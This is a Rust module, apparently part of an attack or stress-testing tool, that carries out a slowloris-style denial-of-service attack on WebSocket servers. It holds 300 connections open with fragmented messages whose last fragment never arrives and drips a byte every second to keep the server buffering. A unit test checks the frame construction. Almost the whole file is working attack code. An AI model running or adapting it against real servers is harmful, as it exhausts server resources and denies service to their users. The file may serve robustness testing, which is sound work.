//! Websocket messages whose last fragment never comes.

use std::time::Duration;

use futures_util::future::{FutureExt as _, join_all};
use tokio::io::AsyncWriteExt as _;

use super::{
    Prepared,
    attacker::{Attacker, RENEW_PAUSE},
};
use crate::websocket::frame::{Kind, client_frame};

/// How long what comes of a message is, in bytes: within limits of 64 KiB and of 256 KiB. Of each there are so many.
const MESSAGE_BYTES: [usize; 2] = [60_000, 240_000];
const SOCKETS_OF_EACH: usize = 150;
const FRAGMENT_BYTES: usize = 20_000;
/// How often one more byte comes.
const DRIP_INTERVAL: Duration = Duration::from_secs(1);
/// What the first fragment of a text says of itself, and each further one but the last.
const FIRST: u8 = 0x1;
const CONTINUED: u8 = 0x0;

pub(super) fn prepare(attacker: Attacker) -> Prepared {
    let beginnings = MESSAGE_BYTES.map(unfinished);
    let drip = fragment(CONTINUED, b" ");
    async move {
        let each = beginnings.iter().flat_map(|beginning| std::iter::repeat_n(beginning, SOCKETS_OF_EACH));
        join_all(each.map(|beginning| hold(&attacker, beginning, &drip))).await;
    }
    .boxed_local()
}

async fn hold(attacker: &Attacker, beginning: &[u8], drip: &[u8]) {
    loop {
        let Some(socket) = attacker.upgrade(attacker.connect().await).await else { continue };
        let (from_server, mut to_server) = socket.into_split();
        let write = async {
            let mut sent = to_server.write_all(beginning).await;
            while sent.is_ok() {
                tokio::time::sleep(DRIP_INTERVAL).await;
                sent = to_server.write_all(drip).await;
            }
        };
        tokio::select! {
            () = write => {}
            () = attacker.listen(from_server) => {}
        }
        attacker.note("socket ended");
        tokio::time::sleep(RENEW_PAUSE).await;
    }
}

/// The fragments of so many bytes of a message, without the last one.
fn unfinished(bytes: usize) -> Vec<u8> {
    let fragments = bytes / FRAGMENT_BYTES;
    let payload = vec![b' '; FRAGMENT_BYTES];
    [fragment(FIRST, &payload), fragment(CONTINUED, &payload).repeat(fragments - 1)].concat()
}

/// A frame that is not a message's last one.
fn fragment(opcode: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = client_frame(Kind::Text, payload);
    frame[0] = opcode;
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_fragment_of_an_unfinished_message_is_its_last() {
        let frames = unfinished(60_000);
        // Each has a header of 8 bytes, its mask included.
        let opcodes: Vec<u8> = frames.chunks(FRAGMENT_BYTES + 8).map(|frame| frame[0]).collect();
        assert_eq!(opcodes, [FIRST, CONTINUED, CONTINUED]);
    }
}
